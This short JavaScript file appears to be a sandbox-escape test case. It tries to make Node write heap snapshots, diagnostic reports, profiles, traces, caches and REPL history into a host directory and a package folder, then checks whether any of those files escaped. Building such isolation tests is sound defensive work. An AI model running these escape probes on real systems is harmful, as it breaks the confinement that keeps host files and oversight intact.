// exploit: has Node write its reports, snapshots, profiles, traces and caches outside, where the host would find them
// part: no
// outcome: finished
// says: written nowhere
const { spawnSync } = require('node:child_process')
const { dirname } = require('node:path')
const v8 = require('node:v8')
const outside = dirname('__HOST_FILE__')
for (const folder of [outside, '/node_modules/express']) {
  for (const act of [() => v8.writeHeapSnapshot(`${folder}/dump.heapsnapshot`), () => process.report.writeReport(`${folder}/report.json`)]) {
    try {
      act()
    } catch {
      continue
    }
  }
  spawnSync(process.execPath, ['--cpu-prof', `--cpu-prof-dir=${folder}`, '--trace-event-categories=v8', `--trace-event-file-pattern=${folder}/trace`, '-e', '1'], { timeout: 700, env: { NODE_COMPILE_CACHE: folder, NODE_V8_COVERAGE: folder, NODE_REPL_HISTORY: `${folder}/history` } })
}
const fs = require('node:fs')
for (const folder of ['/', '/node_modules/express']) for (const name of fs.readdirSync(folder)) if (/^(dump|report|trace|CPU|Heap|coverage|history)/.test(name)) console.log('ESCAPED', folder, name)
console.log('written nowhere')
